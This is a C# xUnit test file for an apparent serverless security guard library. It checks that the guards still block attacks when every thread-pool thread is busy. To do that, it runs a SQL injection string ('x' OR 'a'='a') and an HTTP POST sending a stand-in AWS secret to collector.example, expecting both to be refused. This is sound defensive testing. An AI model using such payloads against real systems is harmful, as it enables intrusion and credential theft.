using System.Net.Http.Json;
using System.Text;
using FunctionShield.Guards.Data;
using FunctionShield.Guards.Http;
using Microsoft.Data.Sqlite;

namespace FunctionShield.Faults.Tests;

/// <summary>Every thread of the pool is busy, and none is added.</summary>
[Collection(Collection.Name)]
public class StarvationTests
{
    // Generous: a machine under load takes its time, and a guard that waits for a thread of the pool waits for ever.
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(30);

    [Fact]
    public void Guards_need_no_thread_of_the_pool()
    {
        ThreadPool.GetMaxThreads(out int workers, out int ports);
        ThreadPool.GetMinThreads(out int least, out int leastPorts);
        var release = new ManualResetEventSlim(); // not disposed of: some of those that it holds only come after the test


        // This test may be what runs on the last of them.
        int wanted = Environment.ProcessorCount - (Thread.CurrentThread.IsThreadPoolThread ? 1 : 0);
        int held = 0;
        Assert.True(ThreadPool.SetMinThreads(Environment.ProcessorCount, leastPorts));
        Assert.True(ThreadPool.SetMaxThreads(Environment.ProcessorCount, ports));
        try
        {
            // More than there are threads, for those that come back.
            for (int i = 0; i < 4 * Environment.ProcessorCount; i++)
                ThreadPool.UnsafeQueueUserWorkItem(_ => Hold(ref held, release), null);
            Assert.True(SpinWait.SpinUntil(() => Volatile.Read(ref held) >= wanted, Patience));

            Exception? thrown = null;
            string said = "";
            var function = new Thread(() => thrown = Record.Exception(() => said = Run()));
            function.Start();
            Assert.True(function.Join(Patience), "a guard waits for a thread of the pool");
            Assert.Null(thrown);
            Assert.Equal("refused refused refused passed passed", said);
        }
        finally
        {
            release.Set();
            ThreadPool.SetMaxThreads(workers, ports);
            ThreadPool.SetMinThreads(least, leastPorts);
        }
    }

    private static void Hold(ref int held, ManualResetEventSlim release)
    {
        Interlocked.Increment(ref held);
        release.Wait();
    }

    private static string Run()
    {
        Shield shield = Shield.Load(new ShieldOptions { Reports = new KeptReports(), Environment = static name => name == "AWS_SECRET_ACCESS_KEY" ? Rig.Secret : null });
        using Inspection invocation = shield.Begin(Rig.Event("x' OR 'a'='a", "127.0.0.1"), "request-1");
        using var connection = new SqliteConnection("Data Source=:memory:").Guard(shield);
        connection.Open();
        using var command = connection.CreateCommand();
        command.CommandText = "SELECT * FROM sqlite_master WHERE name = 'x' OR 'a'='a'";
        using var client = new HttpClient(new ShieldHttpHandler(new SynchronousTransport(), shield));
        return string.Join(
            ' ',
            Outcome(() => command.ExecuteNonQuery()),
            Outcome(() => Send(client, "http://127.0.0.1/", null)),
            Outcome(() => Send(client, "https://collector.example/", JsonContent.Create(new { key = Rig.Secret }))),
            Outcome(() => Send(client, "https://collector.example/", JsonContent.Create(new { key = "none" }))),
            Outcome(() => shield.CheckResponse(Encoding.UTF8.GetBytes("""{"statusCode":200,"body":"tea"}"""))));
    }

    private static void Send(HttpClient client, string url, HttpContent? content)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, url) { Content = content };
        client.Send(request).Dispose();
    }

    private static string Outcome(Action call)
    {
        try
        {
            call();
            return "passed";
        }
        catch (ShieldBlockedException)
        {
            return "refused";
        }
    }

    private sealed class SynchronousTransport : HttpMessageHandler
    {
        protected override HttpResponseMessage Send(HttpRequestMessage request, CancellationToken cancellationToken) => new();

        protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellationToken) => Task.FromResult(Send(request, cancellationToken));
    }
}
